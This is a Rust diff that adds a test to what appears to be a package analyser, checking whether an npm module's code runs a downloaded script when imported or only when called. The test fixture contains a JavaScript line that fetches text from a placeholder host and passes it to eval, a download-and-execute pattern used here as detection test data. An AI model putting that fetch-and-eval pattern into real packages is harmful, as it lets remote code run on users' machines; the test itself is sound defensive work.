@@ -147,3 +147,41 @@ fn who_asks_what_something_is_calls_none_of_its_methods() {
     let handed = format!("{HEAD}class A:\n    def go(self):\n        {WORK}\nprint(A)\n");
     assert_eq!(python(&handed), Zone::Import);
 }
+
+/// When a module of npm runs what it downloads.
+fn javascript(code: &str) -> Zone {
+    let manifest = r#"{"name": "a", "version": "1.0.0", "main": "i.js"}"#;
+    runs(vec![
+        crate::unpack::text_file("package/package.json", manifest),
+        crate::unpack::text_file("package/i.js", code),
+    ])
+}
+
+#[test]
+fn who_asks_whether_something_is_kept_does_not_take_it() {
+    let when = |last: &str| {
+        javascript(&format!(
+            "const b = {{}};\nfunction set(o) {{ o.load = async () => eval(await (await \
+             fetch('https://a.invalid/b')).text()) }}\nset(b);\n{last}\nmodule.exports = b;\n"
+        ))
+    };
+    for asks in [
+        "!b.load && b.read && (b.read = 1);",
+        "b.load && b.read && (b.read = 1);",
+        "b.load || (b.load = 1);",
+        "const has = b.load ? 1 : 2;",
+        "const has = b.load === undefined;",
+        "if (b.read || b.load) { b.read = 1 }",
+        "while (b.load && !b.read) { b.read = 1 }",
+    ] {
+        assert_eq!(when(asks), Zone::Called, "{asks}");
+    }
+    for takes in [
+        "b.load && b.load();",
+        "const go = b.read || b.load; go();",
+        "const go = b.load ? b.load : b.read; go();",
+        "[1].forEach(b.read && b.read || b.load);",
+    ] {
+        assert_eq!(when(takes), Zone::Import, "{takes}");
+    }
+}
